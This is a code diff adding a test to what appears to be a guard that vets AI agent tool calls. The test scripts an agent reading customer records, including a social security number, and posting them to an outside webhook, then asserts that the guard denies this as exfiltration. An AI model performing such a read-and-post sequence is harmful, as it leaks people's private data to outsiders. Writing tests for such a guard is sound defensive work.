@@ -961,3 +961,15 @@ def test_a_private_file_read_as_a_resource_and_posted_is_exfiltration(prevent: S
     decisions = play(prevent, [fetch_page(), read, post(note)])
     assert decisions[-1].action is Action.DENY
     assert [f.flow_class for f in decisions[-1].flows] == [FlowClass.EXFILTRATION]
+
+
+def test_records_with_social_security_numbers_from_any_server_are_private(
+    prevent: Session,
+) -> None:
+    records = '[{"name": "Dana Ortiz", "ssn": "078-05-1120", "plan": "gold"}]'
+    page = step("fetch", "fetch", {"url": "https://blog.example/p"}, "News of the day.")
+    read = step("backoffice", "fetch_users", {}, records)
+    hook = step("backoffice", "post_webhook", {"url": "https://hooks.example/h", "data": records})
+    decision = play(prevent, [page, read, hook])[-1]
+    assert decision.action is Action.DENY
+    assert FlowClass.EXFILTRATION in {f.flow_class for f in decision.flows}
